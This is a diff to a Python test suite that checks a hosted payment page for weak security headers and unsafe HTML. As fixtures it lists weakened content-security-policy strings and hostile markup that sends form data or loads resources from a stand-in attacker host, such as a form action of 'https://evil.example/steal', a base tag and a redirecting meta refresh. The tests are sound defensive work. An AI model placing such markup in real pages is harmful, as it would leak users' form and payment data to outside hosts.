@@ -6,8 +6,9 @@ from app.core.scripts import differences, inventory
 HOSTED = next(script for script in inventory() if script.address == "/hosted/hosted.js")
 CONTENT = (scripts.ROOT / HOSTED.file).read_bytes()
 HEADERS = {
-    "content-security-policy": "default-src 'none'; script-src 'nonce-n'; form-action 'self'; frame-ancestors 'none'; "
-    "base-uri 'none'",
+    "content-security-policy": "default-src 'none'; script-src 'nonce-n'; style-src 'self' 'nonce-n'; img-src 'self'; "
+    "connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
+    "integrity-policy": "blocked-destinations=(script)",
     "x-content-type-options": "nosniff",
     "referrer-policy": "no-referrer",
 }
@@ -66,8 +67,51 @@ def test_weaker_headers_are_found():
         policy.replace("'nonce-n'", "'nonce-n' https://evil.example"),
         policy.replace("default-src 'none'", "default-src *"),
         policy.replace("frame-ancestors 'none'; ", ""),
+        *(
+            policy.replace(f"{name} 'self'", f"{name} *")
+            for name in ("style-src", "img-src", "connect-src", "form-action")
+        ),
+        *(
+            policy.replace("frame-ancestors 'none'", f"frame-ancestors {who}")
+            for who in ("*", "https:", "https://*.de")
+        ),
+        policy.replace("; form-action 'self'", "; form-action 'self' https://evil.example"),
+        f"form-action *; {policy}",
+        f"{policy}; frame-src *",
+        f"{policy}; script-src-elem *",
         "",
     ):
         assert found(content_security_policy=weaker), weaker
+    assert found(integrity_policy="") == ["integrity-policy is not blocked-destinations=(script)"]
     assert found(x_content_type_options="") == ["x-content-type-options is not nosniff"]
     assert found(referrer_policy="unsafe-url") == ["referrer-policy is not no-referrer"]
+
+
+def test_a_shop_that_frames_it_is_right():
+    policy = HEADERS["content-security-policy"].replace(
+        "frame-ancestors 'none'", "frame-ancestors https://shop.example"
+    )
+    assert found(content_security_policy=policy) == []
+
+
+def test_what_sends_elsewhere_or_loads_from_elsewhere_is_found():
+    fine = (
+        '<form action="/pay/x"></form><link rel="stylesheet" href="/hosted/hosted.css"><link rel="icon" href="/i.svg">'
+    )
+    assert found(f'{TAG}{fine}<noscript><meta http-equiv="refresh" content="20"></noscript><meta name="robots">') == []
+    for html, said in (
+        ('<form action="https://evil.example/steal">', "a form is sent elsewhere: https://evil.example/steal"),
+        ('<form action="\\\\evil.example">', "a form is sent elsewhere: \\\\evil.example"),
+        ('<button formaction="//evil.example">', "a form is sent elsewhere: //evil.example"),
+        (
+            '<link rel="stylesheet" href="https://evil.example/x.css">',
+            "a link of the page: stylesheet https://evil.example/x.css",
+        ),
+        ('<link rel="modulepreload" href="/x.js">', "a link of the page: modulepreload /x.js"),
+        ('<base href="https://evil.example">', "runs in the page itself: <base>"),
+        (
+            '<meta http-equiv="refresh" content="5;url=https://evil.example">',
+            "a meta of the page: refresh 5;url=https://evil.example",
+        ),
+    ):
+        assert found(TAG + html) == [said]
